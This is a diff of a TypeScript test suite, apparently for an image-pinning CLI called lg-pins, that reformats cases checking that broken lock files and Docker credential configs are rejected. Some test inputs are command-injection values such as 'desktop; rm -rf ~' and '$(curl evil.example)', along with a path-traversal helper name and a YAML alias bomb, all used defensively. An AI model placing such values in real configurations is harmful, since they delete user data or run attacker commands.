@@ -29,7 +29,10 @@ const RISCV = 'agent: { platform: linux/riscv64, digest: sha256:5a550b42c36ec58a
 
 /** Replace exactly one occurrence (so that a corpus entry cannot silently stop being broken). */
 function edit(text: string, from: string | RegExp, to: string): string {
-  const hits = typeof from === 'string' ? text.split(from).length - 1 : (text.match(new RegExp(from.source, `${from.flags.replace('g', '')}g`)) ?? []).length;
+  const hits =
+    typeof from === 'string'
+      ? text.split(from).length - 1
+      : (text.match(new RegExp(from.source, `${from.flags.replace('g', '')}g`)) ?? []).length;
   if (hits !== 1) throw new Error(`corpus edit: ${String(from)} matches ${hits} times`);
   return text.replace(from, to);
 }
@@ -47,42 +50,122 @@ function lockError(text: string): LockError {
 describe('broken locks: parseLock', () => {
   // [name, text, every issue as `line:column: path: message` (regexes anchored on the file)]
   const cases: Array<[string, string, RegExp[]]> = [
-    ['a renamed key (ref → reference)', edit(GOOD, '    ref: oci', '    reference: oci'), [
-      /^:4:3: images\.agent: missing required key "ref"$/,
-      /^:5:5: images\.agent\.reference: unknown key "reference"$/,
-    ]],
-    ['a misspelt top-level key', edit(GOOD, 'images:', 'imagez:'), [
-      /^:2:1: missing required key "images"$/,
-      /^:3:1: imagez: unknown key "imagez" \(did you mean "images"\?\)$/,
-    ]],
-    ['lockVersion as a string', edit(GOOD, 'lockVersion: 1', 'lockVersion: "1"'), [/^:2:14: lockVersion: "1" is not supported; the only value is 1$/]],
+    [
+      'a renamed key (ref → reference)',
+      edit(GOOD, '    ref: oci', '    reference: oci'),
+      [/^:4:3: images\.agent: missing required key "ref"$/, /^:5:5: images\.agent\.reference: unknown key "reference"$/],
+    ],
+    [
+      'a misspelt top-level key',
+      edit(GOOD, 'images:', 'imagez:'),
+      [/^:2:1: missing required key "images"$/, /^:3:1: imagez: unknown key "imagez" \(did you mean "images"\?\)$/],
+    ],
+    [
+      'lockVersion as a string',
+      edit(GOOD, 'lockVersion: 1', 'lockVersion: "1"'),
+      [/^:2:14: lockVersion: "1" is not supported; the only value is 1$/],
+    ],
     ['lockVersion missing', edit(GOOD, 'lockVersion: 1\n', ''), [/^:2:1: missing required key "lockVersion"$/]],
-    ['lockVersion 0', edit(GOOD, 'lockVersion: 1', 'lockVersion: 0'), [/^:2:14: lockVersion: lockVersion 0 is not supported by this lg-pins/]],
-    ['a sha256 digest in uppercase hex', edit(GOOD, INDEX, INDEX.toUpperCase().replace('SHA256', 'sha256')), [
-      /^:7:13: images\.agent\.digest: "sha256:E763B4BF2DA9[0-9A-F]{52}" is not valid \(a digest is sha256: and 64 lowercase hex characters\)$/,
-    ]],
-    ['a sha512 digest of sha256 length', edit(GOOD, INDEX, `sha512:${'a'.repeat(64)}`), [/^:7:13: images\.agent\.digest: "sha512:a{64}" is not valid/]],
-    ['an md5 digest', edit(GOOD, INDEX, 'md5:d41d8cd98f00b204e9800998ecf8427e'), [/^:7:13: images\.agent\.digest: "md5:d41d8cd98f00b204e9800998ecf8427e" is not valid/]],
-    ['a fleet pin digest with a stray character', edit(GOOD, RISCV, RISCV.replace('sha256:5a550b42c36e', 'sha256:5a550b42c36g')), [/^:34:\d+: fleet\.riscv-lab\.agent\.digest: "sha256:5a550b42c36g[0-9a-f]{52}" is not valid/]],
-    ['a platform key that is not os/arch[/variant]', edit(GOOD, '      linux/arm/v7:', '      Linux/ARM v7:'), [
-      /^:14:7: images\.agent\.platforms\.Linux\/ARM v7: platform "Linux\/ARM v7" must be os\/arch\[\/variant\], e\.g\. linux\/arm\/v7$/,
-    ]],
-    ['a fleet pin whose platform is garbage', edit(GOOD, 'platform: linux/amd64,', 'platform: "amd64 please",'), [/^:30:\d+: fleet\.datacenter\.agent\.platform: "amd64 please" is not valid \(a platform is os\/arch\[\/variant\]/]],
-    ['a group id that is not an id', edit(GOOD, '  edge:\n', '  Edge!:\n'), [/^:31:3: fleet\.Edge!: group id "Edge!" must be lowercase letters/]],
-    ['held without tag', edit(GOOD, RISCV, RISCV.replace(' }', ', held: "gone" }')), [/^:34:\d+: fleet\.riscv-lab\.agent\.held: "held" needs "tag"$/]],
-    ['tag without held', edit(GOOD, RISCV, RISCV.replace(' }', ', tag: v2.9.0 }')), [/^:34:\d+: fleet\.riscv-lab\.agent\.tag: "tag" needs "held"$/]],
-    ['a list where the images map belongs', 'lockVersion: 1\nimages:\n  - agent\n  - tools\n', [/^:3:3: images: must be an object, got \["agent","tools"\]$/]],
-    ['a list where a group map belongs', edit(GOOD, / {2}edge:\n {4}agent: \{[^\n]*\}/, '  edge:\n    - agent'), [/^:32:5: fleet\.edge: must be an object, got \["agent"\]$/]],
-    ['platforms emptied', `lockVersion: 1\nimages:\n  a:\n    ref: r.example/a\n    tag: v1\n    digest: ${INDEX}\n    mediaType: m\n    platforms: {}\n`, [/^:8:5: images\.a\.platforms: needs at least 1 entry$/]],
-    ['a negative size', edit(GOOD, /size: 401\n {6}linux\/arm\/v7/, 'size: -1\n      linux/arm/v7'), [/^:13:15: images\.agent\.platforms\.linux\/amd64\.size: -1 must be >= 0$/]],
-    ['a size in quotes', edit(GOOD, /size: 401\n {6}linux\/arm\/v7/, 'size: "401"\n      linux/arm/v7'), [/^:13:15: images\.agent\.platforms\.linux\/amd64\.size: must be an integer, got "401"$/]],
-    ['a duplicate key', edit(GOOD, 'lockVersion: 1', 'lockVersion: 1\nlockVersion: 1'), [/^:3:1: lockVersion: duplicate key "lockVersion"; a key may appear only once in a mapping \(the lock is damaged/]],
-    ['tab indentation', edit(GOOD, '  agent:\n    ref:', '\tagent:\n    ref:'), [/^:4:1: Tabs are not allowed as indentation .*\(the lock is damaged/]],
+    [
+      'lockVersion 0',
+      edit(GOOD, 'lockVersion: 1', 'lockVersion: 0'),
+      [/^:2:14: lockVersion: lockVersion 0 is not supported by this lg-pins/],
+    ],
+    [
+      'a sha256 digest in uppercase hex',
+      edit(GOOD, INDEX, INDEX.toUpperCase().replace('SHA256', 'sha256')),
+      [
+        /^:7:13: images\.agent\.digest: "sha256:E763B4BF2DA9[0-9A-F]{52}" is not valid \(a digest is sha256: and 64 lowercase hex characters\)$/,
+      ],
+    ],
+    [
+      'a sha512 digest of sha256 length',
+      edit(GOOD, INDEX, `sha512:${'a'.repeat(64)}`),
+      [/^:7:13: images\.agent\.digest: "sha512:a{64}" is not valid/],
+    ],
+    [
+      'an md5 digest',
+      edit(GOOD, INDEX, 'md5:d41d8cd98f00b204e9800998ecf8427e'),
+      [/^:7:13: images\.agent\.digest: "md5:d41d8cd98f00b204e9800998ecf8427e" is not valid/],
+    ],
+    [
+      'a fleet pin digest with a stray character',
+      edit(GOOD, RISCV, RISCV.replace('sha256:5a550b42c36e', 'sha256:5a550b42c36g')),
+      [/^:34:\d+: fleet\.riscv-lab\.agent\.digest: "sha256:5a550b42c36g[0-9a-f]{52}" is not valid/],
+    ],
+    [
+      'a platform key that is not os/arch[/variant]',
+      edit(GOOD, '      linux/arm/v7:', '      Linux/ARM v7:'),
+      [/^:14:7: images\.agent\.platforms\.Linux\/ARM v7: platform "Linux\/ARM v7" must be os\/arch\[\/variant\], e\.g\. linux\/arm\/v7$/],
+    ],
+    [
+      'a fleet pin whose platform is garbage',
+      edit(GOOD, 'platform: linux/amd64,', 'platform: "amd64 please",'),
+      [/^:30:\d+: fleet\.datacenter\.agent\.platform: "amd64 please" is not valid \(a platform is os\/arch\[\/variant\]/],
+    ],
+    [
+      'a group id that is not an id',
+      edit(GOOD, '  edge:\n', '  Edge!:\n'),
+      [/^:31:3: fleet\.Edge!: group id "Edge!" must be lowercase letters/],
+    ],
+    [
+      'held without tag',
+      edit(GOOD, RISCV, RISCV.replace(' }', ', held: "gone" }')),
+      [/^:34:\d+: fleet\.riscv-lab\.agent\.held: "held" needs "tag"$/],
+    ],
+    [
+      'tag without held',
+      edit(GOOD, RISCV, RISCV.replace(' }', ', tag: v2.9.0 }')),
+      [/^:34:\d+: fleet\.riscv-lab\.agent\.tag: "tag" needs "held"$/],
+    ],
+    [
+      'a list where the images map belongs',
+      'lockVersion: 1\nimages:\n  - agent\n  - tools\n',
+      [/^:3:3: images: must be an object, got \["agent","tools"\]$/],
+    ],
+    [
+      'a list where a group map belongs',
+      edit(GOOD, / {2}edge:\n {4}agent: \{[^\n]*\}/, '  edge:\n    - agent'),
+      [/^:32:5: fleet\.edge: must be an object, got \["agent"\]$/],
+    ],
+    [
+      'platforms emptied',
+      `lockVersion: 1\nimages:\n  a:\n    ref: r.example/a\n    tag: v1\n    digest: ${INDEX}\n    mediaType: m\n    platforms: {}\n`,
+      [/^:8:5: images\.a\.platforms: needs at least 1 entry$/],
+    ],
+    [
+      'a negative size',
+      edit(GOOD, /size: 401\n {6}linux\/arm\/v7/, 'size: -1\n      linux/arm/v7'),
+      [/^:13:15: images\.agent\.platforms\.linux\/amd64\.size: -1 must be >= 0$/],
+    ],
+    [
+      'a size in quotes',
+      edit(GOOD, /size: 401\n {6}linux\/arm\/v7/, 'size: "401"\n      linux/arm/v7'),
+      [/^:13:15: images\.agent\.platforms\.linux\/amd64\.size: must be an integer, got "401"$/],
+    ],
+    [
+      'a duplicate key',
+      edit(GOOD, 'lockVersion: 1', 'lockVersion: 1\nlockVersion: 1'),
+      [/^:3:1: lockVersion: duplicate key "lockVersion"; a key may appear only once in a mapping \(the lock is damaged/],
+    ],
+    [
+      'tab indentation',
+      edit(GOOD, '  agent:\n    ref:', '\tagent:\n    ref:'),
+      [/^:4:1: Tabs are not allowed as indentation .*\(the lock is damaged/],
+    ],
     ['a second YAML document', `${GOOD}---\nlockVersion: 1\n`, [/^:\d+:1: a second YAML document starts here/]],
     ['a bare scalar', 'just some text\n', [/^:1:1: must be an object, got "just some text"$/]],
     ['a top-level list', '- lockVersion: 1\n- images: {}\n', [/^:1:1: must be an object, got \[/]],
-    ['binary garbage', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0xff, 0xfe, 0x01, 0x7f]).toString('latin1'), [/^:1:1: must be an object, got "/]],
-    ['an alias bomb', 'a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n', [/^:1:1: cannot expand the YAML aliases/]],
+    [
+      'binary garbage',
+      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0xff, 0xfe, 0x01, 0x7f]).toString('latin1'),
+      [/^:1:1: must be an object, got "/],
+    ],
+    [
+      'an alias bomb',
+      'a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n',
+      [/^:1:1: cannot expand the YAML aliases/],
+    ],
   ];
 
   it.each(cases)('%s', (_name, text, expected) => {
@@ -101,7 +184,9 @@ describe('broken locks: parseLock', () => {
     mkdirSync(dir);
     const err = await readLock(dir).catch((e: unknown) => e);
     expect(err).toBeInstanceOf(LockError);
-    expect((err as LockError).message).toMatch(new RegExp(`^${dir}: cannot read the lock: it is a directory; a lock must be a regular file`));
+    expect((err as LockError).message).toMatch(
+      new RegExp(`^${dir}: cannot read the lock: it is a directory; a lock must be a regular file`),
+    );
   });
 });
 
@@ -117,14 +202,23 @@ describe('broken locks through the CLI', () => {
   async function run(args: string[], cwd: string) {
     let stdout = '';
     let stderr = '';
-    const code = await main(args, { stdout: { write: (s: string) => (stdout += s) }, stderr: { write: (s: string) => (stderr += s) }, cwd, env: { NO_COLOR: '1' } });
+    const code = await main(args, {
+      stdout: { write: (s: string) => (stdout += s) },
+      stderr: { write: (s: string) => (stderr += s) },
+      cwd,
+      env: { NO_COLOR: '1' },
+    });
     return { code, stdout, stderr };
   }
 
   const broken = [
     ['lockVersion as a string', edit(GOOD, 'lockVersion: 1', 'lockVersion: "1"'), ':2:14: lockVersion: "1" is not supported'],
     ['an uppercase digest', edit(GOOD, INDEX, INDEX.replace('e763b4bf', 'E763B4BF')), ':7:13: images.agent.digest: "sha256:E763B4BF'],
-    ['a truncated file', GOOD.slice(0, GOOD.indexOf('    mediaType: application/vnd.oci.image.index') + 10), ':8:5: Implicit map keys need to be followed by map values'],
+    [
+      'a truncated file',
+      GOOD.slice(0, GOOD.indexOf('    mediaType: application/vnd.oci.image.index') + 10),
+      ':8:5: Implicit map keys need to be followed by map values',
+    ],
   ] as const;
 
   it.each(broken)('lock, check and pins refuse %s with exit 2 and leave the file alone', async (_name, text, where) => {
@@ -142,11 +236,19 @@ describe('broken locks through the CLI', () => {
     const dir = example(edit(GOOD, 'images:', 'imagez:'));
     const r = await run(['lock', '--json'], dir);
     expect(r.code).toBe(2);
-    const doc = JSON.parse(r.stdout) as { error: { exitCode: number; issues: Array<{ file: string; line: number; column: number; path: string; message: string }> } };
+    const doc = JSON.parse(r.stdout) as {
+      error: { exitCode: number; issues: Array<{ file: string; line: number; column: number; path: string; message: string }> };
+    };
     expect(doc.error.exitCode).toBe(2);
     expect(doc.error.issues).toEqual([
       { file: join(dir, 'lg-pins.lock.yaml'), line: 2, column: 1, path: '', message: 'missing required key "images"' },
-      { file: join(dir, 'lg-pins.lock.yaml'), line: 3, column: 1, path: 'imagez', message: 'unknown key "imagez" (did you mean "images"?)' },
+      {
+        file: join(dir, 'lg-pins.lock.yaml'),
+        line: 3,
+        column: 1,
+        path: 'imagez',
+        message: 'unknown key "imagez" (did you mean "images"?)',
+      },
     ]);
   });
 });
@@ -177,22 +279,58 @@ describe('broken Docker config.json and containers auth.json', () => {
     ['the top level is a string', JSON.stringify(secretAuth), /^: must be a JSON object$/],
     ['auths is a string', JSON.stringify({ auths: secretAuth }), /^: "auths" must be an object$/],
     ['auths is a number', JSON.stringify({ auths: 5000 }), /^: "auths" must be an object$/],
-    ['auth is user:password not base64-encoded', JSON.stringify({ auths: { 'reg.example:5000': { auth: `robot:${SECRET}` } } }), /^: auths\."reg\.example:5000"\.auth is not base64 of "user:password"$/],
-    ['auth is base64 of the password alone', JSON.stringify({ auths: { 'reg.example:5000': { auth: Buffer.from(SECRET).toString('base64') } } }), /^: auths\."reg\.example:5000"\.auth is not base64 of "user:password"$/],
+    [
+      'auth is user:password not base64-encoded',
+      JSON.stringify({ auths: { 'reg.example:5000': { auth: `robot:${SECRET}` } } }),
+      /^: auths\."reg\.example:5000"\.auth is not base64 of "user:password"$/,
+    ],
+    [
+      'auth is base64 of the password alone',
+      JSON.stringify({ auths: { 'reg.example:5000': { auth: Buffer.from(SECRET).toString('base64') } } }),
+      /^: auths\."reg\.example:5000"\.auth is not base64 of "user:password"$/,
+    ],
     ['credHelpers is a list', withSecret({ credHelpers: ['pass'] }), /^: "credHelpers" must be an object$/],
-    ['a credHelpers value is a number', withSecret({ credHelpers: { 'reg.example:5000': 42 } }), /^: credHelpers\."reg\.example:5000" must name a helper \(docker-credential-<name>\)$/],
-    ['a credHelpers value is an object', withSecret({ credHelpers: { 'reg.example:5000': { name: 'pass' } } }), /^: credHelpers\."reg\.example:5000" must name a helper/],
-    ['a credHelpers value is null', withSecret({ credHelpers: { 'reg.example:5000': null } }), /^: credHelpers\."reg\.example:5000" must name a helper/],
-    ['a credHelpers value is a path', withSecret({ credHelpers: { 'reg.example:5000': '../../tmp/evil' } }), /^: credHelpers\."reg\.example:5000" must name a helper/],
-    ['credsStore with a command separator', withSecret({ credsStore: 'desktop; rm -rf ~' }), /^: "credsStore" must name a helper \(docker-credential-<name>\)$/],
+    [
+      'a credHelpers value is a number',
+      withSecret({ credHelpers: { 'reg.example:5000': 42 } }),
+      /^: credHelpers\."reg\.example:5000" must name a helper \(docker-credential-<name>\)$/,
+    ],
+    [
+      'a credHelpers value is an object',
+      withSecret({ credHelpers: { 'reg.example:5000': { name: 'pass' } } }),
+      /^: credHelpers\."reg\.example:5000" must name a helper/,
+    ],
+    [
+      'a credHelpers value is null',
+      withSecret({ credHelpers: { 'reg.example:5000': null } }),
+      /^: credHelpers\."reg\.example:5000" must name a helper/,
+    ],
+    [
+      'a credHelpers value is a path',
+      withSecret({ credHelpers: { 'reg.example:5000': '../../tmp/evil' } }),
+      /^: credHelpers\."reg\.example:5000" must name a helper/,
+    ],
+    [
+      'credsStore with a command separator',
+      withSecret({ credsStore: 'desktop; rm -rf ~' }),
+      /^: "credsStore" must name a helper \(docker-credential-<name>\)$/,
+    ],
     ['credsStore with a command substitution', withSecret({ credsStore: '$(curl evil.example)' }), /^: "credsStore" must name a helper/],
     ['credsStore with backticks', withSecret({ credsStore: '`id`' }), /^: "credsStore" must name a helper/],
     ['credsStore with a pipe', withSecret({ credsStore: 'pass|tee /tmp/x' }), /^: "credsStore" must name a helper/],
     ['credsStore that is a number', withSecret({ credsStore: 7 }), /^: "credsStore" must name a helper/],
     ['a trailing comma', `{"auths": {"reg.example:5000": {"auth": "${secretAuth}"},}}`, /^:1:\d+: not valid JSON; fix or remove it$/],
-    ['cut short after a secret', `{"auths": {"reg.example:5000": {"auth": "${secretAuth}"`, /^(:\d+:\d+)?: not valid JSON; fix or remove it$/],
+    [
+      'cut short after a secret',
+      `{"auths": {"reg.example:5000": {"auth": "${secretAuth}"`,
+      /^(:\d+:\d+)?: not valid JSON; fix or remove it$/,
+    ],
     ['an unquoted secret', `{"auths": {"reg.example:5000": {"auth": ${secretAuth}}}}`, /^(:\d+:\d+)?: not valid JSON; fix or remove it$/],
-    ['a YAML file in its place', `auths:\n  reg.example:5000:\n    auth: ${secretAuth}\n`, /^(:\d+:\d+)?: not valid JSON; fix or remove it$/],
+    [
+      'a YAML file in its place',
+      `auths:\n  reg.example:5000:\n    auth: ${secretAuth}\n`,
+      /^(:\d+:\d+)?: not valid JSON; fix or remove it$/,
+    ],
     ['binary garbage', '\u0089PNG\r\n\u001a\n\u0000\u0000', /^(:\d+:\d+)?: not valid JSON; fix or remove it$/],
   ];
 
@@ -208,7 +346,9 @@ describe('broken Docker config.json and containers auth.json', () => {
   it('a broken containers auth.json is named, whichever way it was found', async () => {
     const explicit = join(tmp(), 'auth.json');
     writeFileSync(explicit, JSON.stringify({ auths: { 'quay.example/team': { auth: 'bm90LWEtcGFpcg==' } } }));
-    const viaEnv = await credentialStore({ REGISTRY_AUTH_FILE: explicit, HOME: tmp() })('quay.example', 'team/app').catch((e: unknown) => e);
+    const viaEnv = await credentialStore({ REGISTRY_AUTH_FILE: explicit, HOME: tmp() })('quay.example', 'team/app').catch(
+      (e: unknown) => e,
+    );
     expect(viaEnv).toBeInstanceOf(AuthConfigError);
     expect((viaEnv as Error).message).toBe(`${explicit}: auths."quay.example/team".auth is not base64 of "user:password"`);
 
@@ -220,10 +360,14 @@ describe('broken Docker config.json and containers auth.json', () => {
   });
 
   it('a broken DOCKER_AUTH_CONFIG is named by its variable, never shown', async () => {
-    const err = await credentialStore({ DOCKER_AUTH_CONFIG: `{"auths": {"r.example": {"auth": "${secretAuth}"}}`, HOME: tmp() })('r.example').catch((e: unknown) => e);
+    const err = await credentialStore({ DOCKER_AUTH_CONFIG: `{"auths": {"r.example": {"auth": "${secretAuth}"}}`, HOME: tmp() })(
+      'r.example',
+    ).catch((e: unknown) => e);
     expect(err).toBeInstanceOf(AuthConfigError);
     expect((err as Error).message).toMatch(/^\$DOCKER_AUTH_CONFIG(:\d+:\d+)?: not valid JSON; fix or remove it$/);
-    const shape = await credentialStore({ LG_PINS_REGISTRY_AUTH: JSON.stringify({ credHelpers: { 'r.example': 'a b' } }), HOME: tmp() })('r.example').catch((e: unknown) => e);
+    const shape = await credentialStore({ LG_PINS_REGISTRY_AUTH: JSON.stringify({ credHelpers: { 'r.example': 'a b' } }), HOME: tmp() })(
+      'r.example',
+    ).catch((e: unknown) => e);
     expect((shape as Error).message).toBe('$LG_PINS_REGISTRY_AUTH: credHelpers."r.example" must name a helper (docker-credential-<name>)');
   });
 });
